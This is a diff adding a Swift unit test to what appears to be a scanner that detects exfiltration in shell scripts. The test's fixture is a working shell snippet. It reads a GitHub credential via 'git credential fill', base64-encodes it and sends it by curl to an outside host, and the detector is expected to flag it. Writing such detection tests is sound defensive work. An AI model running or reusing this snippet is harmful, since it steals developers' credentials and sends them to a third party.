@@ -856,3 +856,14 @@ extension ExfiltrationBehaviourTests {
     #expect(try findings("persistence-mechanism", Example(plain, language: .shell)).first?.chain == nil)
   }
 }
+
+extension ExfiltrationBehaviourTests {
+  @Test("What the git credential helper prints is a credential, and a GET's data carries it")
+  func gitCredentialFill() throws {
+    let script = "cred=\"$(printf 'protocol=https\\nhost=github.com\\n\\n' | git credential fill | base64)\"\ncurl -fsS -G \"https://hooks.gitkit-update.dev/v1/check\" --data-urlencode \"c=$cred\"\n"
+    let hit = try #require(try findings("exfil-flow-credentials", Example(script, language: .shell)).first)
+    #expect(hit.line == 2)
+    #expect(hit.message.contains("git credential helper"))
+    #expect(hit.chain == .exfiltration)
+  }
+}
